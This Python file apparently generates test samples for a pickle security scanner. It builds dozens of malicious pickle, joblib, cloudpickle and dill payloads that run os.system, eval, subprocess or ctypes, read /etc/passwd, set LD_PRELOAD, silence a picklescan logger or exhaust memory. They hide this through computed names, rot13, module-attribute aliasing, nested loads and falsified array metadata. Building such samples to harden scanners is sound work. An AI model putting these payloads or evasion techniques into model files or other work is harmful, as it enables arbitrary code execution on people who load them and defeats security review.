"""Bypasses of a review: names that calls compute, methods that are handed to what
calls them, joblib arrays whose description lies, classes that execute their state.
make.py takes them among its samples. All of them were tried with CPython 3.11 and
joblib 1.6 where that can be done without harm."""

import base64
import struct

bad = {}


def P(n):
    return b"\x80" + bytes([n])


def S(s):
    return b"\x8c" + bytes([len(s.encode())]) + s.encode()


def X(s):
    return b"X" + struct.pack("<I", len(s.encode())) + s.encode()


def B(b):
    return b"C" + bytes([len(b)]) + b


def G(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def SG(module, name):
    return S(module) + S(name) + b"\x93"


def call(f, *xs):
    return f + tup(*xs) + R


def tup(*xs):
    return b"(" + b"".join(xs) + b"t"


T1, T2, R, ST = b"\x85", b"\x86", b"R", b"."
ID = S("id")
PAY0 = G("os", "system") + b"(S'id'\ntR"

# computed names for STACK_GLOBAL
comp = {
 "lower": (call(G("builtins","str.lower"), S("OS")), call(G("builtins","str.lower"), S("SYSTEM"))),
 "rot13": (call(G("_codecs","encode"), S("bf"), S("rot13")), call(G("_codecs","encode"), S("flfgrz"), S("rot13"))),
 "str_bytes": (call(G("builtins","str"), B(b"os"), S("ascii")), call(G("builtins","str"), B(b"system"), S("ascii"))),
 "join": (call(G("builtins","str.join"), S(""), b"](" + S("o") + S("s") + b"e"), call(G("builtins","str.join"), S(""), b"](" + S("sys") + S("tem") + b"e")),
 "add": (call(G("_operator","add"), S("o"), S("s")), call(G("_operator","add"), S("sys"), S("tem"))),
 "max": (call(G("builtins","max"), S("os"), S("a")), call(G("builtins","max"), S("system"), S("a"))),
 "strip": (call(G("builtins","str.strip"), S(" os ")), call(G("builtins","str.strip"), S(" system "))),
 "replace": (call(G("builtins","str.replace"), S("xs"), S("x"), S("o")), call(G("builtins","str.replace"), S("sysxtem"), S("x"), S(""))),
 "repr": (call(G("builtins","str.strip"), call(G("builtins","repr"), S("os")), S("'")), call(G("builtins","str.strip"), call(G("builtins","ascii"), S("system")), S("'"))),
 "decode": (call(G("builtins","bytes.decode"), B(b"os")), call(G("builtins","bytes.decode"), B(b"system"))),
 "chr": (call(G("_operator","add"), call(G("builtins","chr"), b"K\x6f"), call(G("builtins","chr"), b"K\x73")), S("system")),
}
for k, (m, n) in comp.items():
    bad["comp_" + k] = P(4) + m + n + b"\x93" + ID + T1 + R + ST
bad["comp_inplace_memo"] = P(4) + comp["lower"][0] + b"q\x07" + comp["lower"][1] + b"q\x0900h\x07h\x09\x93" + ID + T1 + R + ST

# memo spelled as Python's int() takes
bad["get_underscore"] = b"Vos\np10\n0Vsystem\np11\n0g1_0\ng1_1\n\x93Vid\n\x85R."
bad["get_space"] = b"Vos\np 10\n0Vsystem\np11 \n0g10 \ng 11\n\x93Vid\n\x85R."
bad["get_plus"] = b"Vos\np+10\n0Vsystem\np011\n0g10\ng+11\n\x93Vid\n\x85R."
bad["get_under_payload"] = b"Vid\np10\n0cos\nsystem\np1_1\n0g11\n(g10\ntR."
bad["int_space"] = b"I 5\n0" + PAY0 + ST
bad["int_under"] = b"I5_0\n0" + PAY0 + ST
bad["float_under"] = b"F1_0.5\n0" + PAY0 + ST
bad["float_nan"] = b"Fnan\n0Finf\n0" + PAY0 + ST

# handing methods of harmless classes to harmless callables that call them
part = lambda f, *a: call(G("functools","partial"), f, *a)
kpart = lambda f, kw: part(f) + b"(" + f + b")}(" + b"".join(S(k) + v for k, v in kw.items()) + b"u" + b"Nt" + b"b"
for nm, meth in {"w2v": G("gensim.models.word2vec","Word2Vec.load"), "gdict": G("gensim.corpora.dictionary","Dictionary.load"),
                 "cat": G("catboost.core","CatBoostClassifier.load_model"), "csv": part(G("pandas.core.frame","DataFrame.to_csv"), call(G("pandas.core.frame","DataFrame"))),
                 "dump": part(G("numpy","ndarray.dump"), call(G("numpy","zeros"), b"K\x01")), "fromjson": G("transformers.configuration_utils","PretrainedConfig.from_json_file"),
                 "weights": G("torchvision.models.resnet","ResNet50_Weights.get_state_dict"), "pathrepl": part(G("pathlib","Path.replace"), call(G("pathlib","Path"), S("/tmp/a"))),
                 "hardlink": part(G("pathlib","Path.hardlink_to"), call(G("pathlib","Path"), S("/tmp/a"))), "xgbsave": part(G("xgboost.sklearn","XGBModel.save_model"), call(G("xgboost.sklearn","XGBModel"))),
                 "xgbload": part(G("xgboost.sklearn","XGBModel.load_model"), call(G("xgboost.sklearn","XGBModel"))),
                 "lgbsave": part(G("lightgbm.basic","Booster.save_model"), call(G("pathlib","Path"), S("/tmp/a"))) }.items():
    bad["handed_sorted_" + nm] = P(4) + kpart(G("builtins","sorted"), {"key": meth}) + b"](" + S("/tmp/x") + b"e" + T1 + R + ST
    bad["handed_setitem_" + nm] = P(4) + call(G("pandas.core.frame","DataFrame")) + meth + b"K\x01s."
bad["handed_max_newobj_ex"] = P(4) + kpart(G("builtins","max"), {"key": G("gensim.models.word2vec","Word2Vec.load")}) + b"](" + S("/tmp/x") + S("/tmp/y") + b"e" + T1 + R + ST
bad["called_to_csv"] = P(4) + call(G("pandas.core.frame","DataFrame.to_csv"), call(G("pandas.core.frame","DataFrame")), S("/tmp/x")) + ST
bad["called_path_replace"] = P(4) + call(G("pathlib","Path.replace"), call(G("pathlib","Path"), S("/tmp/a")), S("/tmp/b")) + ST
bad["called_dump"] = P(4) + call(G("numpy","ndarray.dump"), call(G("numpy","zeros"), b"K\x01"), S("/tmp/b")) + ST
bad["lambdalr"] = P(4) + call(G("torch.optim.lr_scheduler","LambdaLR"), b"N", part(G("gensim.models.word2vec","Word2Vec.load"), S("/tmp/x"))) + ST
bad["attributedict_hook"] = P(4) + call(G("lightning.fabric.utilities.data","AttributeDict")) + S("__setstate__") + G("gensim.models.word2vec","Word2Vec.load") + b"s" + S("/tmp/x") + b"b."
bad["namespace_append"] = P(4) + call(G("types","SimpleNamespace")) + b"}" + S("append") + G("gensim.models.word2vec","Word2Vec.load") + b"sb" + S("/tmp/x") + b"a."
bad["bunch_extend"] = P(4) + call(G("sklearn.utils._bunch","Bunch")) + S("extend") + G("gensim.models.word2vec","Word2Vec.load") + b"s(" + S("/tmp/x") + b"e."

# classes that are harmless when only made
bad["reconstructor_init"] = P(2) + G("copyreg","_reconstructor") + tup(G("xgboost.core","Booster"), G("xgboost.core","Booster"), b"}") + R + ST
bad["reconstructor_w2v"] = P(2) + G("copyreg","_reconstructor") + tup(G("gensim.models.word2vec","Word2Vec"), G("gensim.models.word2vec","Word2Vec"), X("/etc/passwd")) + R + ST
bad["dsconfig_file"] = P(4) + call(G("transformers.integrations.deepspeed","HfDeepSpeedConfig"), S("/etc/passwd")) + ST
bad["devicemesh"] = P(4) + call(G("torch.distributed.device_mesh","DeviceMesh"), S("cpu"), b"]K\x00a") + ST

# joblib wrappers that lie
def wrapper(**kw):
    s = b"".join(S(k) + v for k, v in kw.items())
    return G("joblib.numpy_pickle","NumpyArrayWrapper") + b")\x81}(" + s + b"ub"
nd = G("numpy","ndarray")
f8 = call(G("numpy","dtype"), S("f8"), b"\x89", b"\x88")
u1 = call(G("numpy","dtype"), S("u1"), b"\x89", b"\x88")
def dst(spec, elsize, flags=0): return call(G("numpy","dtype"), S(spec), b"\x89", b"\x88") + tup(b"K\x03", S("|"), b"N", b"N", b"N", b"J"+struct.pack("<i", elsize), b"K\x01", b"J"+struct.pack("<i",flags)) + b"b"
sh = lambda n: b"J" + struct.pack("<i", n) + T1
JP = b"0" + PAY0 + ST
bad["joblib_align_none"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=u1, allow_mmap=b"\x89", numpy_array_alignment_bytes=b"N") + bytes([200]) + JP + b"A"*170
bad["joblib_elsize"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=dst("V200", 1), allow_mmap=b"\x89") + b"A" + JP + b"A"*300
bad["joblib_elsize_u"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=dst("U100", 4), allow_mmap=b"\x89") + b"AAAA" + JP + b"A"*600
bad["joblib_elsize_s"] = P(4) + wrapper(subclass=nd, shape=sh(2), order=S("C"), dtype=dst("S100", 2), allow_mmap=b"\x89") + b"AAAA" + JP + b"A"*600
bad["joblib_build_twice"] = P(4) + wrapper(subclass=nd, shape=sh(4), order=S("C"), dtype=u1, allow_mmap=b"\x89").replace(b")\x81}", b")\x81q\x42}") + b"AAAA" + b"h\x42}b" + b"\xff\xff\xff\xff" + b"0" + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST
bad["joblib_obj_long"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=call(G("numpy","dtype"), S("object")), allow_mmap=b"\x89") + P(4) + PAY0 + ST + b"."
bad["joblib_obj_class"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=call(G("numpy","dtype"), G("numpy","object_")), allow_mmap=b"\x89") + P(4) + PAY0 + ST + b"."
bad["joblib_obj_ns"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=call(G("types","SimpleNamespace")) + b"}" + S("hasobject") + b"\x88sb", allow_mmap=b"\x89") + P(4) + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST + b"."
bad["joblib_shape_wrap"] = P(4) + wrapper(subclass=nd, shape=b"\x8a\x05\x00\x00\x00\x00\x01"*2 + T2, order=S("C"), dtype=u1, allow_mmap=b"\x89") + b"0" + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST
bad["joblib_subarray"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=call(G("numpy","dtype"), b"(" + S("u1") + sh(4) + b"t"), allow_mmap=b"\x89") + b"\xff\xff\xff\xff" + b"0" + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST
bad["joblib_shape_list"] = P(4) + wrapper(subclass=nd, shape=b"](K\x04e", order=S("C"), dtype=u1, allow_mmap=b"\x89") + b"\xff\xff\xff\xff" + b"0" + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST
bad["joblib_shape_bool"] = P(4) + wrapper(subclass=nd, shape=b"\x88" + T1, order=S("C"), dtype=u1, allow_mmap=b"\x89") + b"\xff" + b"0" + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST
bad["joblib_dtype_kw"] = P(4) + wrapper(subclass=nd, shape=sh(1), order=S("C"), dtype=call(G("numpy","dtype"), S("i1,i1")), allow_mmap=b"\x89") + b"\xff\xff" + b"0" + X("os") + X("system") + b"\x93" + X("id") + T1 + R + ST
bad["joblib_state_twice"] = P(4) + G("joblib.numpy_pickle","NumpyArrayWrapper") + b")\x81}(" + S("shape") + sh(1) + S("dtype") + u1 + b"uN\x86b" + b"A" + b"0" + PAY0 + ST
bad["joblib_ndwrapper_path"] = P(4) + G("joblib.numpy_pickle","NDArrayWrapper") + b")\x81}(" + S("filename") + S("../../../../tmp/evil.npy") + S("subclass") + nd + S("allow_mmap") + b"\x89" + b"ub."
bad["joblib_ndwrapper_abs"] = P(4) + G("joblib.numpy_pickle_compat","NDArrayWrapper") + b")\x81}(" + S("filename") + S("/tmp/evil.npy") + S("subclass") + nd + S("allow_mmap") + b"\x89" + b"ub."
bad["joblib_zndwrapper_path"] = P(4) + G("joblib.numpy_pickle_compat","ZNDArrayWrapper") + b")\x81}(" + S("filename") + S("../secret.z") + S("init_args") + b")" + S("state") + b")" + b"ub."

# state that classes execute
pad = "def _parse_args(self, a, loc=0, scale=1):\n    return (a), loc, scale\n"
t = pad * (4096 // len(pad)); t += " " * (4096 - len(t)); t += "import os; os.system('id')\n"
bad["scipy_template_long"] = P(4) + G("scipy.stats._continuous_distns","norm_gen") + b")\x81}" + S("_parse_arg_template") + X(t) + b"sb."
bad["formula_exec_frame"] = P(4) + G("statsmodels.base.data","PandasData") + b")\x81}(" + S("formula") + S("y ~ exec(cmd)") + S("frame") + b"}" + S("cmd") + S("import os") + b"s" + b"ub."
bad["formula_np_load"] = P(4) + G("statsmodels.base.data","PandasData") + b")\x81}(" + S("formula") + S("y ~ np.load(x)") + b"ub."

# singletons changed
bad["logger_disabled"] = P(4) + call(G("logging","getLogger")) + b"}" + S("disabled") + b"\x88sb."
bad["logger_filters"] = P(4) + call(G("logging","getLogger"), S("picklescan")) + b"}" + S("handlers") + b"]sb."

# bombs
bad["bomb_list_range"] = P(4) + call(G("builtins","list"), call(G("builtins","range"), b"\x8a\x05\x00\x00\x00\x00\x01")) + ST
bad["bomb_count"] = P(4) + call(G("builtins","list"), call(G("itertools","count"))) + ST
bad["bomb_cycle"] = P(4) + call(G("collections","deque"), call(G("itertools","cycle"), S("a"))) + ST
bad["bomb_zeros"] = P(4) + call(G("numpy","ones"), b"\x8a\x05\x00\x00\x00\x00\x10") + ST
bad["bomb_mul"] = P(4) + call(G("_operator","mul"), S("a"), b"\x8a\x05\x00\x00\x00\x00\x10") + ST
bad["bomb_pow"] = P(4) + call(G("builtins","pow"), b"K\x0a", b"\x8a\x05\x00\x00\x00\x00\x10") + ST
bad["bomb_repeat"] = P(4) + call(G("builtins","tuple"), call(G("itertools","repeat"), b"N")) + ST

# indirect
bad["genericalias_call"] = P(4) + call(G("types","GenericAlias"), G("os","system"), b"(t") + ID + T1 + R + ST
bad["vectorize_call"] = P(4) + call(G("numpy","vectorize"), G("os","system")) + ID + T1 + R + ST
bad["partial_state"] = P(4) + part(G("builtins","len")) + b"(" + G("os","system") + b"(" + ID + b"t}Ntb)R."
bad["defaultdict"] = P(4) + call(G("collections","defaultdict"), part(G("os","system"), ID)) + ST
bad["dict_subclass_missing"] = P(4) + call(G("collections","UserDict")) + b"}" + S("__missing__") + G("os","system") + b"sb."
bad["obj_empty_then"] = b"(" + G("os", "system") + b"o" + b"."
bad["inst_two"] = b"(S'id'\ni__builtin__\neval\n."
bad["newobj_dotted"] = P(4) + SG("torch.nn.modules.module", "os.system") + ID + T1 + R + ST
bad["cyclic_partial"] = P(4) + part(G("functools","partial"), G("functools","partial"), G("os","system"), ID) + b")R)R)R."
bad["subclass_alias_torch"] = P(4) + call(SG("torch.nn.functional", "torch.hub.load"), ID) + ST
bad["alias_np_os"] = P(4) + call(SG("numpy.lib._utils_impl", "sys.modules"), ID) + ST
bad["alias_pandas"] = P(4) + call(SG("pandas.core.common", "builtins.eval"), ID) + ST
bad["alias_typing_sys"] = P(4) + SG("typing", "sys.modules.get") + S("os") + T1 + R + ST
bad["alias_re_enum"] = P(4) + call(SG("re", "enum.sys.exit")) + ST
bad["alias_mod_underscore"] = P(4) + call(SG("dataclasses", "_thread.start_new_thread"), ID) + ST
bad["alias_copy"] = P(4) + call(SG("copy", "weakref.sys.exit"), ID) + ST
bad["alias_abc"] = P(4) + call(SG("random", "_urandom.__self__.system"), ID) + ST
bad["alias_upper"] = P(4) + call(SG("tokenize", "_builtin_open"), S("/tmp/x"), S("w")) + ST
bad["alias_json_codec"] = P(4) + call(SG("json", "codecs.open"), S("/tmp/x"), S("w")) + ST
bad["alias_zip"] = P(4) + call(SG("ast", "sys.modules"), S("/tmp/x")) + ST
bad["alias_io_open"] = P(4) + call(SG("gzip", "builtins.open"), S("/tmp/x"), S("w")) + ST
bad["alias_collections_sys"] = P(4) + SG("collections", "_sys.modules.get") + S("os") + T1 + R + ST
bad["alias_datetime"] = P(4) + call(SG("_pydatetime", "sys.modules.get"), S("os")) + ST
bad["alias_numpy_ctypes"] = P(4) + call(SG("numpy", "_core._internal.ctypes.CDLL"), S("/tmp/x.so")) + ST
bad["alias_ctypeslib"] = P(4) + call(SG("numpy", "ctypeslib.load_library"), S("x"), S("/tmp")) + ST
bad["alias_np_testing"] = P(4) + call(SG("numpy", "testing._private.utils.runstring"), S("1"), b"}") + ST
bad["alias_np_lib"] = P(4) + call(SG("numpy", "lib.npyio.load"), S("/tmp/x")) + ST
bad["alias_np_fromfile"] = P(4) + call(SG("numpy", "_core.multiarray.fromfile"), S("/tmp/x")) + ST
bad["alias_scipy"] = P(4) + call(SG("scipy._lib._ccallback", "ctypes.CDLL"), S("/tmp/x.so")) + ST
bad["alias_sklearn"] = P(4) + call(SG("sklearn.utils._joblib", "joblib.load"), S("/tmp/x")) + ST
bad["alias_sklearn2"] = P(4) + call(SG("sklearn.utils.parallel", "warnings.sys.modules"), S("/tmp/x")) + ST
bad["gadget_ftplib"] = P(4) + call(SG("numpy.lib.npyio", "DataSource"), S("/tmp")) + ST
bad["gadget_nltk"] = P(4) + call(SG("nltk.internals", "java"), b"](" + S("x") + b"e") + ST
bad["gadget_hf"] = P(4) + call(SG("transformers.utils.generic", "importlib.import_module"), S("os")) + ST
bad["gadget_tok"] = P(4) + call(SG("code", "interact")) + ST
bad["gadget_logconf"] = P(4) + call(SG("logging", "config.dictConfig"), b"}") + ST
bad["gadget_warn"] = P(4) + call(SG("warnings", "_setoption"), S("error:::x.y:0")) + ST
bad["gadget_enc"] = P(4) + call(SG("encodings", "_import_tail"), S("x")) + ST
bad["gadget_zoneinfo"] = P(4) + call(SG("zoneinfo", "ZoneInfo.from_file"), S("/etc/passwd")) + ST
bad["gadget_tzfile"] = P(4) + call(SG("dateutil.tz.tz", "tzfile"), S("/etc/passwd")) + ST
bad["gadget_getaddr"] = P(4) + call(SG("ipaddress", "functools.reduce"), S("x")) + ST
bad["gadget_mimetypes"] = P(4) + call(SG("mimetypes", "init"), b"](" + S("/etc/passwd") + b"e") + ST
bad["gadget_shlex"] = P(4) + call(SG("shlex", "os.system"), ID) + ST
bad["gadget_stringprep"] = P(4) + call(SG("stat", "filemode"), b"K\x01") + call(SG("genericpath", "os.system"), ID) + ST
bad["gadget_getopt"] = P(4) + call(SG("getopt", "os.environ.__setitem__"), ID, ID) + ST
bad["gadget_ctx"] = P(4) + call(SG("contextlib", "ExitStack.callback"), ID) + ST
bad["gadget_queue"] = P(4) + call(SG("contextlib", "os.system"), ID) + ST
bad["gadget_setitem_env"] = P(4) + SG("os", "environ") + S("LD_PRELOAD") + S("/tmp/x") + b"s."
bad["gadget_syspath"] = P(4) + SG("sys", "path") + S("/tmp/x") + b"a."
bad["gadget_decimal_ctx"] = P(4) + SG("decimal", "DefaultContext") + b"}" + S("prec") + b"K\x01sb."
bad["gadget_class_build"] = P(4) + SG("torch.nn.modules.linear", "Linear") + b"}" + S("forward") + SG("torch.nn.functional","relu") + b"sb."
bad["gadget_class_build_slots"] = P(4) + SG("collections", "OrderedDict") + b"N}" + S("update") + SG("builtins","len") + b"s\x86b."
bad["pers_call"] = P(4) + b"Pabc\n" + ID + T1 + R + ST
bad["pers_global"] = P(4) + G("os","system") + b"Q."
bad["nested_bytesarr"] = P(5) + call(G("pickle","loads"), b"\x96" + struct.pack("<Q", len(P(4)+PAY0+ST)) + P(4)+PAY0+ST) + ST
bad["nested_joined"] = P(4) + call(G("pickle","loads"), call(G("_operator","add"), B(P(4)+PAY0[:7]), B(PAY0[7:]+ST))) + ST
bad["frame_lie"] = P(4) + b"\x95" + struct.pack("<Q", 3) + PAY0 + ST
bad["frame_past"] = P(4) + b"\x95" + struct.pack("<Q", 1<<40) + PAY0 + ST
bad["stop_first"] = b"N." + PAY0 + ST
bad["proto_9"] = P(9) + PAY0 + ST
bad["long4_neg"] = P(4) + b"\x8b\x00\x00\x00\x00" + b"0" + PAY0 + ST
bad["bin_str_long"] = P(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + S("system") + b"\x93" + ID + T1 + R + ST
bad["dup_mark"] = P(4) + b"((0" + ID + b"t0" + G("os","system") + ID + T1 + R + ST
bad["pop_mark_hide"] = P(4) + b"(" + call(G("os","system"), ID) + b"1N."
bad["tensor_type_v2"] = P(4) + call(G("torch._tensor","_rebuild_from_type_v2"), G("os","system"), G("torch","Tensor"), tup(ID), b"}") + ST
bad["torch_wrapper_sub"] = P(4) + call(G("torch._utils","_rebuild_wrapper_subclass"), G("os","system"), G("torch","float32")) + ST
bad["load_from_bytes_comp"] = P(4) + call(G("torch.storage","_load_from_bytes"), call(G("_operator","add"), B(P(2)), B(PAY0+ST))) + ST
bad["load_from_bytes_text"] = P(2) + call(G("torch.storage","_load_from_bytes"), call(G("_codecs","encode"), X("\x80\x02cos\nsystem\n(S'id'\ntR."), X("latin1"))) + ST
bad["load_from_bytes_b64"] = P(2) + call(G("torch.storage","_load_from_bytes"), call(G("_codecs","encode"), call(G("_codecs","encode"), X(base64.b64encode(P(2)+PAY0+ST).decode()), X("latin1")), X("base64"))) + ST

# code in the file: own is what cloudpickle and dill write of functions and classes that do no harm
own = {}
CP = "cloudpickle.cloudpickle"


def code(name, names=(), consts=(b"N",), bytecode=b"\x97\x00d\x00S\x00"):
    return call(call(G(CP, "_builtin_type"), S("CodeType")), b"K\x01", b"K\x00", b"K\x00", b"K\x01", b"K\x03", b"K\x03", B(bytecode), tup(*consts),
                names if isinstance(names, bytes) else tup(*map(S, names)), tup(S("self")), S("<dynamic-code>"), S(name), S(name), b"K\x01", B(b""), B(b""), b")", b")")


def function(name, *more, **kw):
    return call(G(CP, "_make_function"), code(name, *more, **kw), b"}", S(name), b"N", b"N")


def klass(name, *methods, meta=G("builtins", "type")):
    made = call(G(CP, "_make_skeleton_class"), meta, S(name), G("builtins", "object") + T1, b"}", S("0"), b"N") + b"q\x50"
    state = b"}(" + b"".join(S(m) + f for m, f in methods) + b"u"
    return made + call(G(CP, "_class_setstate"), b"h\x50", tup(state, b"}")) + b"0"


own["own_function"] = P(4) + function("predict", ("numpy", "log1p")) + ST
own["own_eval_method"] = P(4) + function("predict", ("model", "eval"), bytecode=b"\x97\x00t\x01\x00\x00j\x01\x00\x00d\x00S\x00") + ST
own["own_role"] = P(4) + function("chat", ("append",), (S("role"), S("system"))) + ST
own["own_object"] = P(4) + klass("Model", ("predict", function("predict", ("joblib", "load", "os", "path", "join")))) + b")\x81}" + S("w") + b"K\x01sb."
own["own_setstate"] = P(4) + klass("Model", ("__setstate__", function("__setstate__", ("update", "__dict__")))) + b")\x81}" + S("w") + b"K\x01sb."
own["own_import"] = P(4) + function("f", ("np",)) + call(G(CP, "subimport"), S("numpy")) + b"0."
own["own_dill"] = P(4) + call(G("dill._dill", "_create_function"), call(G("dill._dill", "_create_code"), B(b""), b"K\x01", b"K\x00", b"K\x00", b"K\x01", b"K\x03", b"K\x03", B(b"d\x00S\x00"), b"N" + T1,
    tup(S("log")), tup(S("x")), S("a"), S("f"), S("f"), b"K\x01", B(b""), B(b""), b")", b")"), b"}", S("f"), b"N", b"N") + ST
bad["getter_called"] = P(4) + call(G("_operator", "attrgetter"), S("cell_contents")) + function("f") + T1 + R + ST
bad["getter_private"] = P(4) + call(G("operator", "attrgetter"), S("_os.system")) + ST
GLOBALS = b"}" + S("__globals__") + b"}" + S("x") + call(G(CP, "subimport"), S("os")) + b"ss"
bad["own_alias"] = P(4) + function("f", ("x", "y")) + b"q\x50" + call(G(CP, "_function_setstate"), b"h\x50", tup(b"}", GLOBALS)) + ST
bad["own_called"] = P(4) + function("f") + b")R."
bad["own_partial"] = P(4) + part(function("f")) + b")R."
bad["own_system"] = P(4) + function("f", ("os", "system")) + ST
bad["own_subprocess"] = P(4) + function("f", ("subprocess", "run")) + ST
bad["own_eval"] = P(4) + function("f", ("eval",), bytecode=b"\x97\x00t\x01\x00\x00d\x00S\x00") + ST
bad["own_getattr"] = P(4) + function("f", ("os", "getattr"), (S("system"),)) + ST
bad["own_names_hidden"] = P(4) + function("f", call(G("builtins", "tuple"), b"](" + S("os") + S("system") + b"e")) + ST
bad["own_name_hidden"] = P(4) + function("f", b"(" + call(G("builtins", "str.lower"), S("SYSTEM")) + b"t") + ST
bad["own_handed"] = P(4) + kpart(G("builtins", "sorted"), {"key": function("f")}) + b"](K\x01e" + T1 + R + ST
bad["own_item"] = P(4) + call(G("pandas.core.frame", "DataFrame")) + function("f") + b"K\x01s."
bad["own_setstate_open"] = P(4) + klass("M", ("__setstate__", function("__setstate__", ("open", "write")))) + b")\x81}" + S("w") + b"K\x01sb."
bad["own_setstate_late"] = P(4) + call(G(CP, "_make_skeleton_class"), G("builtins", "type"), S("M"), G("builtins", "object") + T1, b"}", S("0"), b"N") + b"q\x51)\x81q\x520" + call(G(CP, "_class_setstate"), b"h\x51", tup(b"}" + S("__setstate__") + function("s", ("getattr", "chr")) + b"s", b"}")) + b"0h\x52Nb."
bad["own_init"] = P(4) + klass("M", ("__init__", function("__init__", ("open",)))) + b"h\x50)R."
bad["own_setitem"] = P(4) + klass("M", ("__setitem__", function("__setitem__", ("getattr", "chr")))) + b"h\x50)\x81K\x01K\x02s."
bad["own_meta"] = P(4) + klass("Meta") + call(G(CP, "_make_skeleton_class"), b"h\x50", S("M"), G("builtins", "object") + T1, b"}", S("0"), b"N") + ST
bad["own_instance_called"] = P(4) + klass("M", ("__call__", function("__call__"))) + b"h\x50)\x81)R."
bad["own_patch_class"] = P(4) + call(G(CP, "_class_setstate"), G("torch.nn.modules.linear", "Linear"), tup(b"}" + S("forward") + function("f") + b"s", b"}")) + ST
bad["own_patch_function"] = P(4) + call(G(CP, "_function_setstate"), G("json", "loads"), tup(b"}", b"}")) + ST
bad["own_setattr"] = P(4) + function("f") + b"q\x50" + call(G("builtins", "setattr"), G("json", "loads"), S("__code__"), b"h\x50") + ST
bad["own_hook"] = P(4) + call(G("types", "SimpleNamespace")) + b"}" + S("__setstate__") + function("f") + b"sbNb."
bad["own_eval_repr"] = P(4) + function("f") + call(G("dill._dill", "_eval_repr"), S("__import__('os').system('id')")) + ST
bad["own_subimport"] = P(4) + function("f") + call(G(CP, "subimport"), S("subprocess")) + ST
bad["own_reconstructor"] = P(4) + klass("M", ("__init__", function("__init__", ("open",)))) + call(G("copyreg", "_reconstructor"), b"h\x50", b"h\x50", b"N") + ST
bad["own_create_type"] = P(4) + function("f") + call(G("dill._dill", "_create_type"), G("os", "system"), S("id"), S("x")) + ST
bad["own_method_called"] = P(4) + call(G("types", "MethodType"), function("f"), b"N") + b")R."
bad["own_classmethod_handed"] = P(4) + function("g") + call(G("numpy", "asarray"), call(G("builtins", "staticmethod"), function("f"))) + ST
